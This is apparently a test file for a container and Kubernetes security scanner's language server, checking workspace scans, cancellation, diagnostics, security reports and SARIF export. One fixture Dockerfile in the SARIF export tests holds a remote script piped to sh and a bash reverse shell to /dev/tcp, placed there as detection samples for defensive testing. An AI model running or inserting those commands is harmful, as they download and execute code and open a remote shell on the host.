/**
 * "Scan Workspace", the security report and the SARIF export through the real bundled server
 * (dist/server.js over stdio): work-done progress, cancellation, diagnostics for files that are
 * not open (and none for what the CLI's walk skips), open/close without stale or doubled
 * diagnostics, rescans that withdraw what is gone, and the export equal to `drydock scan
 * --format sarif`.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { realpathSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { CancellationTokenSource, WorkDoneProgress, type WorkDoneProgressBegin, type WorkDoneProgressReport, type WorkDoneProgressEnd } from 'vscode-languageserver-protocol/node';
import type { Diagnostic, PublishDiagnosticsParams } from 'vscode-languageserver-protocol/node';
import { TestServer, codes } from './harness';
import { findingOf } from '../../server/src/lsp/diagnostics';
import { makeTree, removeTree, runCli, assertCliBuilt } from '../cli/cliHarness';
import type { ScanWorkspaceResult, SecurityReportResponse } from '../../server/src/lsp/workspaceScan';
import type { ExportSarifResult } from '../../server/src/lsp/sarifExport';
import type { Finding } from '../../server/src/core/findings';

const TIMEOUT = { timeout: 120_000 };
const SCAN = 'drydock/scanWorkspace';
const REPORT = 'drydock/securityReport';
const EXPORT = 'drydock/exportSarif';

const DAEMON_SET = `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: agent, namespace: ops}
spec:
  template:
    spec:
      hostPID: true
      containers:
      - {name: agent, image: "nginx:latest", securityContext: {privileged: true}}
`;

const TREE: Record<string, string | Buffer> = {
  '.drydock.yaml': 'ignorePaths: ["vendor/**"]\n',
  'app/Dockerfile': 'FROM ubuntu:latest\nUSER root\nCMD ["/app"]\n',
  'app/.dockerignore': '.git\n',
  'k8s/deploy.yaml': DAEMON_SET,
  'compose.yaml': 'services:\n  web:\n    image: nginx\n    privileged: true\n',
  'ci/pipeline.yaml': 'stages: [build, test]\n',
  'vendor/Dockerfile': 'FROM ubuntu:latest\n',
  'node_modules/pkg/Dockerfile': 'FROM ubuntu:latest\n',
  'bin/Dockerfile': Buffer.from([0, 1, 2, 3, 0]),
};

const ANALYSED = ['app/Dockerfile', 'bin/Dockerfile', 'compose.yaml', 'k8s/deploy.yaml'];

function uriOf(root: string, file: string): string {
  return pathToFileURL(join(root, file)).toString();
}

/** The last publish for `uri` (what VS Code shows now). */
function lastPublish(server: TestServer, uri: string): PublishDiagnosticsParams | undefined {
  return server.published.filter((p) => p.uri === uri).at(-1);
}

function findingsOf(diagnostics: Diagnostic[]): Finding[] {
  return diagnostics.flatMap((d) => findingOf(d)?.finding ?? []);
}

/** rule@line:character — what the CLI and the server must agree on (their `file` differs: relative vs absolute). */
function keys(findings: Finding[]): string[] {
  return findings.map((f) => `${f.rule}@${f.range.start.line}:${f.range.start.character}-${f.range.end.line}:${f.range.end.character} ${f.message}`).sort();
}

type Progress = WorkDoneProgressBegin | WorkDoneProgressReport | WorkDoneProgressEnd;

/** Runs a scan with work-done token `token`; `cancel` is cancelled by `onProgress` when it says so. */
async function scan(
  server: TestServer,
  token: string,
  cancel?: { source: CancellationTokenSource; when: (value: Progress) => boolean },
): Promise<{ result: ScanWorkspaceResult; progress: Progress[] }> {
  const progress: Progress[] = [];
  const listener = server.connection.onProgress(WorkDoneProgress.type, token, (value) => {
    progress.push(value);
    if (cancel?.when(value)) cancel.source.cancel();
  });
  try {
    // A trailing `undefined` would travel as a second parameter.
    const params = { workDoneToken: token };
    const result = await (cancel ? server.connection.sendRequest<ScanWorkspaceResult>(SCAN, params, cancel.source.token) : server.connection.sendRequest<ScanWorkspaceResult>(SCAN, params));
    return { result, progress };
  } finally {
    listener.dispose();
  }
}

/** A temp folder made from `tree` and a server with it as the workspace folder, for one describe block. */
function workspaceFixture(tree: () => Record<string, string | Buffer>, settings?: Record<string, unknown>): { root: string; server: TestServer } {
  const fixture = {} as { root: string; server: TestServer };
  before(async () => {
    assertCliBuilt();
    fixture.root = realpathSync(makeTree(tree()));
    fixture.server = await TestServer.start({ workspaceFolders: [pathToFileURL(fixture.root).toString()], settings });
  });
  after(async () => {
    await fixture.server.stop();
    removeTree(fixture.root);
  });
  return fixture;
}

describe('Scan Workspace over a real connection', TIMEOUT, () => {
  // Rules only: the CLI comparison below runs with --no-model (model findings arrive in a later publish).
  const ws = workspaceFixture(() => TREE, { model: { enabled: false } });

  it('reports work-done progress and publishes diagnostics for files that are not open', async () => {
    const { server, root } = ws;
    const { result, progress } = await scan(server, 'scan-1');
    assert.equal(result.cancelled, false);
    assert.equal(result.files, ANALYSED.length, JSON.stringify(result));
    assert.equal(progress[0]?.kind, 'begin');
    assert.equal(progress.at(-1)?.kind, 'end');
    assert.ok(progress.some((p) => p.kind === 'report' && typeof p.percentage === 'number'), 'percentage reported');

    const dockerfile = lastPublish(server, uriOf(root, 'app/Dockerfile'));
    assert.ok(dockerfile, 'published for the unopened Dockerfile');
    assert.equal(dockerfile.version, undefined, 'no document version: the file is not open');
    assert.ok(codes(dockerfile.diagnostics).includes('dockerfile/latest-tag'));
    assert.ok(codes(lastPublish(server, uriOf(root, 'k8s/deploy.yaml'))!.diagnostics).includes('kubernetes/privileged-container'));
    assert.ok(codes(lastPublish(server, uriOf(root, 'compose.yaml'))!.diagnostics).includes('compose/privileged'));
    const binary = lastPublish(server, uriOf(root, 'bin/Dockerfile'))!.diagnostics;
    assert.equal(binary.length, 1);
    assert.match(String(binary[0].message), /binary/);
    for (const skipped of ['vendor/Dockerfile', 'node_modules/pkg/Dockerfile', 'ci/pipeline.yaml']) {
      assert.equal(lastPublish(server, uriOf(root, skipped)), undefined, `${skipped} is skipped like the CLI's walk skips it`);
    }
  });

  it('finds what `drydock scan --no-model` finds in the same tree', async () => {
    const { server, root } = ws;
    const cli = await runCli(['scan', '.', '--format', 'json', '--no-model', '--fail-on', 'none'], root);
    assert.equal(cli.code, 0, cli.stderr);
    const expected: Finding[] = JSON.parse(cli.stdout).findings;
    const published = ANALYSED.flatMap((file) => findingsOf(lastPublish(server, uriOf(root, file))!.diagnostics));
    assert.deepEqual(keys(published), keys(expected));
    const { result } = await scan(server, 'scan-2');
    assert.equal(result.findings, expected.length);
  });

  it('hands a file to the buffer on open and back to the disk on close, without stale or doubled diagnostics', async () => {
    const { server, root } = ws;
    const uri = uriOf(root, 'app/Dockerfile');
    const onDisk = codes(lastPublish(server, uri)!.diagnostics).sort();
    const inBuffer = await server.open(uri, 'FROM ubuntu:22.04\nCMD ["/app"]\n');
    assert.ok(!codes(inBuffer).includes('dockerfile/latest-tag'), 'the buffer wins while open');

    // A rescan while the file is open leaves it to the buffer.
    const mark = server.published.length;
    await scan(server, 'scan-3');
    assert.ok(!server.published.slice(mark).some((p) => p.uri === uri), 'no disk diagnostics for an open file');

    const closing = server.published.length;
    await server.connection.sendNotification('textDocument/didClose', { textDocument: { uri } });
    const afterClose = await server.waitForDiagnostics(uri, () => true, closing);
    assert.equal(afterClose.version, undefined);
    assert.deepEqual(codes(afterClose.diagnostics).sort(), onDisk, 'closed: the file on disk, not the discarded buffer, not nothing');
    assert.equal(server.published.slice(closing).filter((p) => p.uri === uri).length, 1, 'one publish replaces the buffer diagnostics');
  });

  it('withdraws diagnostics of files deleted since the last scan', async () => {
    const { server, root } = ws;
    const uri = uriOf(root, 'compose.yaml');
    assert.ok(lastPublish(server, uri)!.diagnostics.length > 0);
    rmSync(join(root, 'compose.yaml'));
    try {
      const { result } = await scan(server, 'scan-4');
      assert.equal(result.files, ANALYSED.length - 1);
      assert.deepEqual(lastPublish(server, uri)!.diagnostics, []);
    } finally {
      writeFileSync(join(root, 'compose.yaml'), TREE['compose.yaml']);
    }
  });

  it('answers the security report from the scan: totals, categories, compliance, image scanning off', async () => {
    const { server } = ws;
    const { result } = await scan(server, 'scan-5');
    const { report, scope, scannedAt } = await server.connection.sendRequest<SecurityReportResponse>(REPORT, {});
    assert.equal(scope, 'workspace');
    assert.ok(scannedAt);
    assert.equal(report.total, result.findings);
    assert.equal(report.files, ANALYSED.length);
    assert.deepEqual(report.bySeverity, result.bySeverity);
    assert.deepEqual(report.images, { state: 'off' });
    const pss = report.compliance.find((f) => f.id === 'pss')!;
    assert.ok(pss.items.find((i) => i.id === 'PSS-Baseline-privileged')!.findings >= 1, 'the privileged container maps to PSS baseline');
    assert.ok(report.byFile.some((row) => row.label === 'k8s/deploy.yaml'), 'workspace-relative file labels');
  });
});

describe('Scan Workspace cancellation', TIMEOUT, () => {
  const COUNT = 400;
  const ws = workspaceFixture(() => {
    const tree: Record<string, string> = {};
    for (let i = 0; i < COUNT; i++) tree[`svc-${String(i).padStart(3, '0')}/Dockerfile`] = `FROM node:${i % 2 ? 'latest' : '22'}\nRUN npm ci\nUSER root\n`;
    return tree;
  }, { model: { enabled: false } });

  it('stops when the request is cancelled, keeps what it published, and the server goes on', async () => {
    const { server } = ws;
    const source = new CancellationTokenSource();
    const { result, progress } = await scan(server, 'cancel-me', { source, when: (value) => value.kind === 'report' && (value.percentage ?? 0) > 0 });
    assert.equal(result.cancelled, true);
    assert.ok(result.files > 0 && result.files < COUNT, `stopped part-way: ${result.files} of ${COUNT}`);
    assert.equal(progress.at(-1)?.kind, 'end', 'progress ends on cancel');
    const published = new Set(server.published.map((p) => p.uri));
    assert.equal(published.size, result.files, 'what was analysed stays published');

    const status = await server.connection.sendRequest<{ workspace: { state: string } }>('drydock/status');
    assert.equal(status.workspace.state, 'cancelled');
    const again = await scan(server, 'complete');
    assert.equal(again.result.files, COUNT);
    assert.equal(again.result.cancelled, false);
  });
});

describe('Export SARIF', TIMEOUT, () => {
  const ws = workspaceFixture(() => ({
    ...TREE,
    // Something for the model to score, so both sides run it.
    'worker/Dockerfile': 'FROM alpine:3.20\nRUN wget -qO- http://203.0.113.7/x.sh | sh\nRUN bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n',
  }));

  it('writes exactly what `drydock scan --format sarif` writes for the workspace folder', async () => {
    const { server, root } = ws;
    const exported = await server.connection.sendRequest<ExportSarifResult>(EXPORT, {});
    assert.ok('sarif' in exported, JSON.stringify(exported));
    const cli = await runCli(['scan', '.', '--format', 'sarif', '--fail-on', 'none'], root);
    assert.equal(cli.code, 0, cli.stderr);
    assert.equal(exported.sarif, cli.stdout);
    const log = JSON.parse(exported.sarif);
    assert.equal(log.runs[0].results.length, exported.findings);
    assert.ok(
      log.runs[0].results.some((r: { ruleId: string }) => r.ruleId.startsWith('model/')),
      'the model ran on both sides',
    );
  });

  it('scores files that are not open with the model and publishes its findings after the rules', async () => {
    const { server, root } = ws;
    const uri = uriOf(root, 'worker/Dockerfile');
    const mark = server.published.length;
    await scan(server, 'with-model');
    const first = await server.waitForDiagnostics(uri, () => true, mark);
    const withModel = await server.waitForDiagnostics(uri, (p) => codes(p.diagnostics).some((c) => c.startsWith('model/')), mark);
    assert.equal(withModel.version, undefined);
    assert.ok(codes(withModel.diagnostics).includes('dockerfile/remote-script-piped-to-shell'), 'rules stay with the model findings');
    assert.ok(first.diagnostics.length <= withModel.diagnostics.length);
  });

  it('does not depend on what is open in the editor (saved files are what CI sees)', async () => {
    const { server, root } = ws;
    const uri = uriOf(root, 'app/Dockerfile');
    await server.open(uri, 'FROM scratch\n');
    const exported = await server.connection.sendRequest<ExportSarifResult>(EXPORT, {});
    const cli = await runCli(['scan', '.', '--format', 'sarif', '--fail-on', 'none'], root);
    assert.ok('sarif' in exported);
    assert.equal(exported.sarif, cli.stdout);
  });
});
